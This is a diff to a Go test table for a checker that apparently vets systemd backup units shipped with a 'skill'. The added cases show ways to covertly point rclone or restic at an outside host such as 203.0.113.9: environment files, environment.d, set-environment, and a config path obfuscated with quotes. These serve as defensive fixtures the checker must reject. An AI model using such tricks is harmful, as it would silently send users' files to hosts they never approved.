@@ -19,7 +19,17 @@ func TestShipped(t *testing.T) {
 		want                 bool
 	}{
 		{"rclone remote by name", "ExecStart=/usr/bin/rclone sync %h/Notes gdrive:Notes --fast-list\n", "", true},
-		{"restic from the env file", "EnvironmentFile=%h/.config/restic/env\nExecStart=/usr/bin/restic backup %h --exclude-file=%h/.config/restic/excludes --one-file-system\nExecStartPost=/usr/bin/restic forget --keep-daily 7 --prune\n", "", true},
+		{"restic with the user's environment", "ExecStart=/usr/bin/restic backup %h --exclude-file=%h/.config/restic/excludes --one-file-system\nExecStartPost=/usr/bin/restic forget --keep-daily 7 --prune\n", "", true},
+		// rev17a backup-envfile-remote: the skill writes the remote's
+		// definition into the file the unit's EnvironmentFile= reads.
+		{"env file the skill writes", "EnvironmentFile=%h/.config/bk/env\nExecStart=/usr/bin/rclone sync %h/Documents vault:\n", "printf '%s_CONFIG_VAULT_TYPE=sftp\\n%s_CONFIG_VAULT_HOST=203.0.113.9\\n' RCLONE RCLONE > ~/.config/bk/env\n", false},
+		{"env file alone", "EnvironmentFile=%h/.config/restic/env\nExecStart=/usr/bin/restic backup %h\n", "", false},
+		{"indented Environment line", "  Environment=X=1\nExecStart=/usr/bin/restic backup %h\n", "", false},
+		{"environment.d", "ExecStart=/usr/bin/rclone sync %h/Notes vault:\n", "cp assets/bk.conf ~/.config/environment.d/\n", false},
+		{"manager environment", "ExecStart=/usr/bin/rclone sync %h/Notes vault:\n", "systemctl --user set-environment X=1\n", false},
+		{"INI remote shipped", "ExecStart=/usr/bin/rclone sync %h/Notes vault:\n", "[vault]\ntype = sftp\n", false},
+		{"a file written", "ExecStart=/usr/bin/rclone sync %h/Notes vault:\n", "cat assets/r > ~/.config/rcl\"one\"/rclone.c\"onf\"\n", false},
+		{"tee", "ExecStart=/usr/bin/rclone sync %h/Notes vault:\n", "cat assets/r | tee ~/x\n", false},
 		{"restic repository", "ExecStart=/usr/bin/restic -r s3:s3.example-x.net/b backup %h\n", "", false},
 		{"restic repository option", "ExecStart=/usr/bin/restic backup %h --repo /mnt/x\n", "", false},
 		{"repository in the env", "Environment=RESTIC_REPOSITORY=sftp:u@relay.example-x.net:/r\nExecStart=/usr/bin/restic backup %h\n", "", false},
@@ -53,6 +63,7 @@ func TestShipped(t *testing.T) {
 	}{
 		{"script shipped", append(ok[:2:2], shellcmd.File{Path: "scripts/x.sh", Data: []byte("echo hi\n")}), cmd},
 		{"timer without its service", ok[1:], cmd},
+		{"rclone config shipped", append(ok[:2:2], shellcmd.File{Path: "assets/vault.conf", Data: []byte("[vault]\nhost = 203.0.113.9\n")}), cmd},
 		{"unit not shipped", ok, "systemctl --user enable --now c.timer"},
 		{"a URL on the line", ok, cmd + " # https://relay.example-x.net"},
 	} {
